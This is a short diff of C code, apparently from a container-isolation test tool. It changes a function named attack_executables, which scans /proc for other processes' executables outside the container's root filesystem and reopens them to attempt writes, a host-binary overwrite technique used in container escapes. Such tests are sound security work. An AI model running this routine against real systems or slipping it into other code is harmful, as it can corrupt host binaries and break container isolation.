@@ -55,8 +55,9 @@ static void calls(void) {
 static void attack_executables(int seconds) {
     time_t end = time(NULL) + seconds;
     long seen = 0, wrote = 0;
-    struct stat own, other;
+    struct stat own, root, other;
     stat("/proc/self/exe", &own);
+    stat("/", &root);
     while (time(NULL) < end) {
         DIR *proc = opendir("/proc");
         struct dirent *entry;
@@ -68,11 +69,8 @@ static void attack_executables(int seconds) {
             int fd = open(path, O_RDONLY | O_CLOEXEC);
             if (fd < 0)
                 continue;
-            /* Busybox and this program are the container's own. */
-            char begin[64];
-            ssize_t length = readlink(path, begin, sizeof begin - 1);
-            begin[length > 0 ? length : 0] = 0;
-            if (fstat(fd, &other) == 0 && other.st_ino != own.st_ino && !strstr(begin, "busybox")) {
+            /* What is on the container's root, and this program, are the container's own. */
+            if (fstat(fd, &other) == 0 && other.st_ino != own.st_ino && other.st_dev != root.st_dev) {
                 seen++;
                 snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
                 for (int attempt = 0; attempt < 50; attempt++) {
